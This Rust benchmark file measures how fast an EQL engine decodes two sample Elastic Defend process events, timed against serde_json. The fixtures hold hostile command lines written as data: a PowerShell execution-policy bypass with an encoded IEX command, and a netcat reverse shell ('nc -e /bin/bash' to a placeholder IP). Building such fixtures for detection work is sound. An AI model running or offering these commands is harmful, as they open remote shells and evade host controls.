//! Decode-only throughput on realistic Elastic Defend process events with ~40 projected fields,
//! next to serde_json parsing the same line into a `Value` as a yardstick.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use eql_vm::decode::{Decoder, Projection};
use eql_vm::event::{EventBuf, SlotKind};
use std::hint::black_box;

/// A Windows process start as Elastic Defend writes it (escaped backslashes, nested objects,
/// arrays, hashes, code signatures, a large unprojected `Ext` subtree).
const WINDOWS_PROCESS: &str = r#"{"@timestamp":"2024-05-21T10:14:07.512Z","agent":{"id":"5b1d7e2a-9c3f-4e8b-a6d0-71f2c4e9b803","type":"endpoint","version":"8.13.2"},"data_stream":{"dataset":"endpoint.events.process","namespace":"default","type":"logs"},"ecs":{"version":"8.10.0"},"elastic":{"agent":{"id":"5b1d7e2a-9c3f-4e8b-a6d0-71f2c4e9b803"}},"event":{"action":"start","agent_id_status":"verified","category":["process"],"created":"2024-05-21T10:14:07.512Z","dataset":"endpoint.events.process","id":"NSEyGb8vmT4vT3Hk+++++Bq2","ingested":"2024-05-21T10:14:09Z","kind":"event","module":"endpoint","outcome":"unknown","sequence":208127,"type":["start"]},"host":{"architecture":"x86_64","hostname":"WKS-FIN-042","id":"9c4e7b1a-2d5f-4a8e-b3c6-0f1e2d3c4b5a","ip":["10.1.42.17","fe80::8d1c:4a2b:9e3f:1c07"],"mac":["00-50-56-a1-2b-3c"],"name":"wks-fin-042","os":{"Ext":{"variant":"Windows 10 Enterprise"},"family":"windows","full":"Windows 10 Enterprise 22H2 (10.0.19045.4291)","kernel":"22H2 (10.0.19045.4291)","name":"Windows","platform":"windows","type":"windows","version":"22H2"}},"message":"Endpoint process event","process":{"Ext":{"ancestry":["MTVhZjE0OWEtNjQ1OS00OTEyLTk3NjctZmE0YjE0MjEtNjIzNi0xMzM2MDAwMDAw","MTVhZjE0OWEtNjQ1OS00OTEyLTk3NjctZmE0YjE0MjEtNTQ4LTEzMzU5MDAwMDA="],"code_signature":[{"exists":true,"status":"trusted","subject_name":"Microsoft Windows","trusted":true}],"token":{"elevation":false,"elevation_type":"limited","integrity_level_name":"medium"}},"args":["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","-NoProfile","-ExecutionPolicy","Bypass","-EncodedCommand","SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="],"args_count":6,"code_signature":{"exists":true,"status":"trusted","subject_name":"Microsoft Windows","trusted":true},"command_line":"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=","entity_id":"MTVhZjE0OWEtNjQ1OS00OTEyLTk3NjctZmE0YjE0MjEtNzcxMi0xMzM2MDcyNDQ0Nw==","executable":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","hash":{"md5":"7353f60b1739074eb17c5f4dddefe239","sha1":"6cbce4a295c163791b60fc23d285e6d84f28ee4c","sha256":"de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c"},"name":"powershell.exe","parent":{"args":["C:\\Windows\\Explorer.EXE"],"args_count":1,"command_line":"C:\\Windows\\Explorer.EXE","entity_id":"MTVhZjE0OWEtNjQ1OS00OTEyLTk3NjctZmE0YjE0MjEtNjIzNi0xMzM2MDAwMDAw","executable":"C:\\Windows\\explorer.exe","name":"explorer.exe","pid":6236},"pe":{"company":"Microsoft Corporation","description":"Windows PowerShell","file_version":"10.0.19041.3996","original_file_name":"PowerShell.EXE","product":"Microsoft® Windows® Operating System"},"pid":7712,"working_directory":"C:\\Users\\j.doe\\"},"user":{"domain":"CORP","id":"S-1-5-21-1004336348-1177238915-682003330-1104","name":"j.doe"}}"#;

/// A Linux process start with no escapes (Elastic Defend on Linux).
const LINUX_PROCESS: &str = r#"{"@timestamp":"2024-05-21T09:00:05.310Z","event":{"id":"ln-7731","kind":"event","category":["process"],"type":["start"],"action":"exec","dataset":"endpoint.events.process","module":"endpoint","created":"2024-05-21T09:00:05.310Z","ingested":"2024-05-21T09:00:06.100Z"},"host":{"id":"f1c3a9d2-6b0e-4e7a-9c51-2d8e4b7a0c13","name":"web-01","hostname":"web-01","architecture":"x86_64","ip":["10.20.0.11","fe80::5054:ff:fe3a:1c01"],"mac":["52-54-00-3a-1c-01"],"os":{"type":"linux","family":"ubuntu","name":"Ubuntu","kernel":"5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC 2024","platform":"ubuntu","version":"22.04.4","full":"Ubuntu 22.04.4","Ext":{"variant":"Ubuntu"}}},"agent":{"type":"endpoint","id":"0d2a6b8e-4f7c-4c1e-8a3d-5e9b1f6c7a21","version":"8.13.2"},"process":{"entity_id":"NGZhMDI5ZTUtMTg3Ny00ZDQ1LWJjYjAtYjQ0NmIxZTk4YTU5LTc3MzEtMTMzNjA3MjQ0NDc=","pid":7731,"name":"bash","executable":"/usr/bin/bash","args":["bash","-i"],"args_count":2,"command_line":"bash -i","working_directory":"/home/alice","start":"2024-05-21T09:00:05.310Z","interactive":true,"user":{"id":"1000","name":"alice"},"group":{"id":"1000","name":"alice"},"ppid":7730,"parent":{"entity_id":"NGZhMDI5ZTUtMTg3Ny00ZDQ1LWJjYjAtYjQ0NmIxZTk4YTU5LTc3MzAtMTMzNjA3MjQ0NDc=","pid":7730,"name":"nc","executable":"/usr/bin/nc.openbsd","args":["nc","-e","/bin/bash","203.0.113.50","4444"],"args_count":5,"command_line":"nc -e /bin/bash 203.0.113.50 4444","start":"2024-05-21T09:00:05.300Z"},"hash":{"md5":"b3f2a5b1c2d4e6f8a0b1c2d3e4f5a6b7","sha256":"e7c1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f"},"Ext":{"ancestry":["NGZhMDI5ZTUtMTg3Ny00ZDQ1LWJjYjAtYjQ0NmIxZTk4YTU5LTc3MzAtMTMzNjA3MjQ0NDc=","NGZhMDI5ZTUtMTg3Ny00ZDQ1LWJjYjAtYjQ0NmIxZTk4YTU5LTEtMTMzNTIyMDAwMDAw"]}},"user":{"id":"1000","name":"alice"},"group":{"id":"1000","name":"alice"},"ecs":{"version":"8.10.0"},"data_stream":{"dataset":"endpoint.events.process","namespace":"default","type":"logs"}}"#;

/// The fields a set of process rules typically reads.
fn projection() -> Projection {
    let date = ["@timestamp"];
    let ip = ["host.ip", "source.ip", "destination.ip"];
    let plain = [
        "event.category",
        "event.type",
        "event.action",
        "event.dataset",
        "event.kind",
        "event.module",
        "event.outcome",
        "host.os.type",
        "host.os.name",
        "host.os.family",
        "host.name",
        "host.id",
        "agent.id",
        "user.name",
        "user.id",
        "user.domain",
        "process.name",
        "process.executable",
        "process.args",
        "process.args_count",
        "process.command_line",
        "process.entity_id",
        "process.pid",
        "process.working_directory",
        "process.hash.sha256",
        "process.hash.md5",
        "process.pe.original_file_name",
        "process.code_signature.trusted",
        "process.code_signature.subject_name",
        "process.Ext.token.integrity_level_name",
        "process.parent.name",
        "process.parent.executable",
        "process.parent.args",
        "process.parent.command_line",
        "process.parent.entity_id",
        "process.parent.pid",
        "process.interactive",
    ];
    let fields: Vec<_> = date
        .iter()
        .map(|p| (p.to_string(), SlotKind::Date))
        .chain(ip.iter().map(|p| (p.to_string(), SlotKind::Ip)))
        .chain(plain.iter().map(|p| (p.to_string(), SlotKind::Plain)))
        .collect();
    Projection::new(&fields)
}

fn bench_decode(c: &mut Criterion) {
    let proj = projection();
    let mut group = c.benchmark_group("decode");
    group.throughput(Throughput::Elements(1));
    for (name, line) in [
        ("windows_process", WINDOWS_PROCESS),
        ("linux_process", LINUX_PROCESS),
    ] {
        let mut decoder = Decoder::new();
        let mut buf = EventBuf::new();
        buf.line.extend_from_slice(line.as_bytes());
        decoder
            .decode(&proj, &mut buf)
            .expect("the sample event decodes");
        assert!(
            buf.values.len() >= 30,
            "{name}: only {} values",
            buf.values.len()
        );
        group.bench_function(format!("eqlvm_41_fields/{name}"), |b| {
            b.iter(|| {
                // A decode moves the line into `buf.text`: put it back, as reading the next
                // line would (this copy is part of the measured cost).
                buf.line.clear();
                buf.line.extend_from_slice(black_box(line.as_bytes()));
                decoder.decode(&proj, &mut buf).expect("decodes");
                black_box(buf.values.len())
            })
        });
        group.bench_function(format!("serde_json_value/{name}"), |b| {
            b.iter(|| {
                let v: serde_json::Value =
                    serde_json::from_slice(black_box(line.as_bytes())).expect("parses");
                black_box(v)
            })
        });
    }
    group.finish();
}

criterion_group!(benches, bench_decode);
criterion_main!(benches);
